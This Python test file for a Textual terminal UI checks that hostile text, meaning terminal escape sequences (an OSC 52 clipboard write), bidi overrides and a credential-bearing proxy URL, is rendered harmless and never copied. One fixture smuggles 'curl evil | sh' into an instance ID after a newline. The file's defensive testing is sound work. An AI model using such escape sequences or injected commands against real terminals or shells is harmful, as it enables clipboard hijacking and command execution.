"""Whatever a screen draws, nothing that a terminal obeys and no secret reaches the terminal."""

from __future__ import annotations

import unicodedata
from dataclasses import replace

import pytest
from rich.text import Text
from textual.content import Content
from textual.widgets import Static

from smtui.domain.document import DocumentSide, DocumentSummary
from tests.engine.fakes import FakeAws
from tests.tui.looking import screen_text
from tests.tui.world import World, fleet_story, settled

HOSTILE = "\x1b]52;c;cm0=\x07\x9b31m\u202e\u2066\u200b\u2028\udc80"
SECRET = "http://alice:hunter2@proxy:1"
KEYS = (
    *(
        "i",
        "question_mark",
        "escape",
        "colon",
        "escape",
        "t",
        "escape",
        "f",
        "escape",
        "d",
        "enter",
        "escape",
        "escape",
    ),
    *("2", "3", "4", "5", "1", "y", "c", "slash", "w", "escape"),
)


def obeyed(text: str) -> list[str]:
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


@pytest.mark.parametrize("given", [Content(HOSTILE), Text(HOSTILE), HOSTILE], ids=["content", "text", "string"])
async def test_a_widget_that_forgets_to_ask(given: Content | Text | str) -> None:
    async with World().app().run_test(size=(100, 40)) as pilot:
        await settled(pilot)
        await pilot.app.screen.mount(Static(given, markup=False))
        await pilot.pause()
        shown = screen_text(pilot.app)
        assert "]52;c;cm0=" in shown
        assert obeyed(shown) == []


async def test_a_note_that_forgets_to_ask() -> None:
    async with World().app().run_test(size=(100, 40), notifications=True) as pilot:
        await settled(pilot)
        pilot.app.notify(HOSTILE, title=HOSTILE, markup=False)
        await pilot.pause()
        assert "]52;c;cm0=" in screen_text(pilot.app)
        assert obeyed(screen_text(pilot.app)) == []


async def test_an_account_full_of_hostile_texts() -> None:
    """All screens that open without a session, one after another."""
    managed, machines = fleet_story()
    text = f"{HOSTILE} {SECRET}"
    aws = FakeAws(
        [[replace(facts, computer_name=text, platform_name=text, name=text) for facts in managed]],
        [[replace(facts, name=f"{facts.name} {text}", tags={text: text}, vpc_id=text) for facts in machines]],
        documents={DocumentSummary(text, text, DocumentSide.SELF): '{"description": "\\u001b[2J"}'},
    )
    async with World(aws=aws).app().run_test(size=(160, 45)) as pilot:
        await settled(pilot)
        assert "web-1 ␛]52;c;cm0=␇" in screen_text(pilot.app)
        for key in KEYS:
            await pilot.press(key)
            await settled(pilot)
            shown = screen_text(pilot.app)
            assert obeyed(shown) == [], key
            assert "hunter2" not in shown, key


async def test_an_id_that_a_shell_would_obey_is_not_copied() -> None:
    managed, _machines = fleet_story()
    hostile = replace(managed[0], node_id="i-0a1b\ncurl evil | sh\n")
    world = World(aws=FakeAws([[hostile]], [[]]))
    async with world.app().run_test(size=(160, 45), notifications=True) as pilot:
        await settled(pilot)
        await pilot.press("y")
        await settled(pilot)
        assert world.copied == []
        assert "Not copied: it holds a control character." in screen_text(pilot.app)
        await pilot.press("c")
        await settled(pilot)
        assert world.copied == []
        assert "Not copied: a value holds a control character (U+000A)" in " ".join(screen_text(pilot.app).split())
